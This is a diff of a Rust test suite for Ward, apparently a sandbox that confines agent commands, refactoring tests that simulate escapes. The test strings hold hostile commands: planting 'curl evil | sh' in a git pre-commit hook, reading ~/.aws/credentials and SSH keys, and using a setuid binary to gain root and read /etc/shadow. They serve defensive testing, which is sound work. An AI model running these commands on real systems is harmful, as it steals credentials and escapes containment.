@@ -2,7 +2,6 @@
 //! run later, setuid binaries, Ward's own state, /proc.
 
 use crate::*;
-use std::os::unix::process::CommandExt;
 use std::process::Command;
 
 #[test]
@@ -54,8 +53,8 @@ fn escape_via_another_sessions_stage_and_wards_own_files() {
     // signing key) by every path Ward uses.
     let e = Env::new();
     std::fs::create_dir_all(e.p("other")).unwrap();
-    let mut first = Command::new(env!("CARGO_BIN_EXE_ward"))
-        .args([
+    let mut first = e
+        .command(&[
             "run",
             "--grant",
             "../other",
@@ -64,11 +63,6 @@ fn escape_via_another_sessions_stage_and_wards_own_files() {
             "-c",
             "echo first-session-secret > ../other/staged.txt && exec sleep 30",
         ])
-        .current_dir(e.p("proj"))
-        .env("HOME", e.p("home"))
-        .env("XDG_STATE_HOME", e.p("state"))
-        .env("XDG_CONFIG_HOME", e.p("config"))
-        .env("WARD_MANAGED", e.p("managed.toml"))
         .spawn()
         .unwrap();
     let sessions = e.p("state/ward/sessions");
@@ -139,8 +133,8 @@ fn escape_via_git_hooks_outside_the_grant_and_credentials_in_home() {
     )
     .unwrap();
     std::fs::write(e.p("home/.ssh/id_ed25519"), "PRIVATE KEY test\n").unwrap();
-    let o = Command::new(env!("CARGO_BIN_EXE_ward"))
-        .args(["run", "--grant", ".:direct", "--", "/bin/sh", "-c"])
+    let o = e
+        .command(&["run", "--grant", ".:direct", "--", "/bin/sh", "-c"])
         .arg(
             "echo 'curl evil | sh' > ../.git/hooks/pre-commit && echo HOOKED; \
              cat ~/.aws/credentials ~/.ssh/id_ed25519; \
@@ -148,10 +142,6 @@ fn escape_via_git_hooks_outside_the_grant_and_credentials_in_home() {
              ls /tmp/.X11-unix && echo X11-LISTED; echo AGENT-RAN",
         )
         .current_dir(e.p("proj/sub"))
-        .env("HOME", e.p("home"))
-        .env("XDG_STATE_HOME", e.p("state"))
-        .env("XDG_CONFIG_HOME", e.p("config"))
-        .env("WARD_MANAGED", e.p("managed.toml"))
         .output()
         .unwrap();
     assert!(
@@ -181,33 +171,24 @@ fn escape_via_a_setuid_root_binary_in_the_grant() {
         return;
     };
     let e = Env::new();
-    let ward = e.p("ward");
-    std::fs::copy(env!("CARGO_BIN_EXE_ward"), &ward).unwrap();
-    Command::new("chown")
-        .arg("-R")
-        .arg(format!("{uid}:{gid}"))
-        .arg(e.dir.path())
-        .status()
-        .unwrap();
+    let ward = hand_to(e.dir.path(), uid, gid);
     // Owned by root, setuid: copied after the chown so it stays root's.
     let suid = e.p("proj/suid-python");
     std::fs::copy(PY, &suid).unwrap();
     std::fs::set_permissions(&suid, std::os::unix::fs::PermissionsExt::from_mode(0o4755)).unwrap();
-    let o = Command::new(&ward)
-        .args(["run", "--grant", ".:direct", "--", "./suid-python", "-c"])
-        .arg(
+    let o = ward_as(
+        &ward,
+        e.dir.path(),
+        uid,
+        gid,
+        &["run", "--grant", ".:direct", "--", "./suid-python", "-c"],
+    )
+    .arg(
             "import os\nprint('euid', os.geteuid(), flush=True)\n\
              try:\n  os.setuid(0); print('BECAME ROOT')\nexcept OSError as x: print('setuid refused', x)\n\
              try:\n  open('/etc/shadow').read(); print('READ SHADOW')\nexcept OSError as x: print('shadow refused', x)\n",
         )
-        .current_dir(e.p("proj"))
-        .env("HOME", e.p("home"))
-        .env("XDG_STATE_HOME", e.p("state"))
-        .env("XDG_CONFIG_HOME", e.p("config"))
-        .env("WARD_MANAGED", e.p("managed.toml"))
-        .uid(uid)
-        .gid(gid)
-        .output()
+    .output()
         .unwrap();
     let out = text(&o);
     assert!(out.contains(&format!("euid {uid}")), "{out}");
